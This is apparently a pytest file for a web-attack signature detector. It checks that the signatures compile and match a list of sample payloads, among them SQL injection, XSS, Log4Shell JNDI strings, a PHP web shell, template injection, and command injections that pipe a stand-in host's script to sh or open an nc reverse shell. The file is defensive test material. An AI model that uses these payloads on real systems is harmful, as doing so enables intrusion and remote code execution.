"""The packaged signature set: it loads, compiles at every level, and means what it says."""

from __future__ import annotations

from pathlib import Path

import pytest

from wardgate.detect.attacks.model import CATEGORIES, PartKind
from wardgate.detect.attacks.signatures import SignatureSet, load_signatures

SIGNATURES = load_signatures()
LEVEL_1 = SignatureSet(SIGNATURES, paranoia=1)


def _categories(value: str, signatures: SignatureSet = LEVEL_1) -> set[str]:
    return {s.category for s in signatures.match(value.encode())}


def test_every_signature_is_well_formed_and_compiles_at_every_level() -> None:
    assert len({s.id for s in SIGNATURES}) == len(SIGNATURES)
    for signature in SIGNATURES:
        assert signature.category in CATEGORIES
        assert signature.id.startswith(signature.category.split("_")[0])
        assert signature.points in {2, 3, 4, 5}
    sizes = [len(SignatureSet(SIGNATURES, paranoia=level).signatures) for level in (1, 2, 3, 4)]
    assert sizes == sorted(sizes) and sizes[0] < sizes[-1]


def test_natural_text_gets_only_the_signatures_that_name_it() -> None:
    prose_safe = {s.category for s in SIGNATURES if PartKind.TEXT in s.kinds}
    assert prose_safe == {"jndi"}


def test_bad_files_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "s.yaml"
    path.write_text("- {id: x.a, category: nope, pattern: 'a'}\n")
    with pytest.raises(ValueError, match="unknown category"):
        load_signatures(path)
    path.write_text("- {id: sqli.a, category: sqli, pattern: 'a'}\n" * 2)
    with pytest.raises(ValueError, match="duplicate"):
        load_signatures(path)
    path.write_text("- {id: sqli.a, category: sqli, pattern: '(unclosed'}\n")
    with pytest.raises(ValueError, match="does not compile"):
        SignatureSet(load_signatures(path))


@pytest.mark.parametrize(
    ("value", "category"),
    [
        ("1 UNION ALL SELECT username, password FROM users", "sqli"),
        ("1; WAITFOR DELAY '0:0:5'--", "sqli"),
        ("1 and extractvalue(1,concat(0x7e,version()))", "sqli"),
        ("x' AND SLEEP(5) AND 'a'='a", "sqli"),
        ('{"username": {"$ne": null}}', "nosqli"),
        ("'; return true; var x='", "nosqli"),
        ("<svg/onload=alert(1)>", "xss"),
        ("javascript:alert(document.domain)", "xss"),
        ("<img src=x onerror=confirm.call(null,1)>", "xss"),
        ("; cat /etc/passwd", "cmdi"),
        ("$(curl http://x.example/s.sh|sh)", "cmdi"),
        ("a|nc -e /bin/sh 10.0.0.1 4444", "cmdi"),
        ("<?php system($_GET['c']); ?>", "code"),
        ("php://filter/convert.base64-encode/resource=index.php", "code"),
        ("${T(java.lang.Runtime).getRuntime().exec('id')}", "code"),
        ("%{#_memberAccess['allowStaticMethodAccess']=true}", "code"),
        ("__import__('os').system('id')", "code"),
        ("require('child_process').exec('id')", "code"),
        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "deserialization"),
        ('O:8:"stdClass":1:{s:1:"a";s:1:"b";}', "deserialization"),
        ("../../../../etc/passwd", "traversal"),
        ("..\\..\\windows\\win.ini", "traversal"),
        ("/proc/self/environ", "traversal"),
        ("http://evil.example/shell.txt?", "rfi"),
        ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "xxe"),
        ("{{7*7}}", "ssti"),
        ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "ssti"),
        ('<!--#exec cmd="ls" -->', "ssi"),
        ('<esi:include src="http://x.example/"/>', "ssi"),
        ("*)(uid=*))(|(uid=*", "ldapi"),
        ("x\r\nSet-Cookie: a=b", "crlf"),
        ("x\r\nBcc: victim@example.com", "mail"),
        ("${jndi:ldap://x.example/a}", "jndi"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}", "jndi"),
        ("() { :; }; /bin/bash -c 'id'", "cmdi"),
    ],
)
def test_attacks_match_their_category(value: str, category: str) -> None:
    assert category in _categories(value)


@pytest.mark.parametrize(
    "value",
    [
        "José Núñez, calle del Olmo 12, 3º B",
        "O'Brien & Sons Ltd.",
        "Please select the union representative from the list",
        "drop me a line; I'll update you tomorrow",
        "Where and when: Friday at 10, or Monday",
        "rock 'n' roll",
        "alice@example.com",
        "https://example.com/docs?page=2&sort=asc",
        "2026-11-26T03:04:05Z",
        "The cat sat on the mat; the dog ate my homework.",
        "Price: $5 or 2 for $9 (limited)",
        "Use the id field, then type your name",
        "C:\\Users\\ana\\Documents\\report.docx",
        "/api/v1/users/42/orders",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
        "a <b>bold</b> claim",
        "1 + 1 = 2",
        "email me at support@company.co.uk or call +44 20 7946 0958",
        "I'd like to learn about echo chambers and sleep hygiene",
    ],
)
def test_ordinary_values_do_not_add_up_to_a_block(value: str) -> None:
    points = sum(s.points for s in LEVEL_1.match(value.encode()))
    assert points < 5, [s.id for s in LEVEL_1.match(value.encode())]


def test_the_compiled_database_is_cached_privately_and_never_trusted_blindly(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("WARDGATE_CACHE_DIR", str(tmp_path))
    signatures = [s for s in SIGNATURES if s.category == "sqli"]
    SignatureSet(signatures)
    (entry,) = (tmp_path / "signatures").iterdir()
    assert oct(entry.stat().st_mode & 0o077) == "0o0"
    assert SignatureSet(signatures).match(b"1 union select 2")  # loaded from the cache
    entry.write_bytes(entry.read_bytes()[:-10])  # corrupted: recompiled, still right
    assert SignatureSet(signatures).match(b"1 union select 2")
    entry.chmod(0o666)  # writable by others: not trusted, recompiled
    assert SignatureSet(signatures).match(b"1 union select 2")
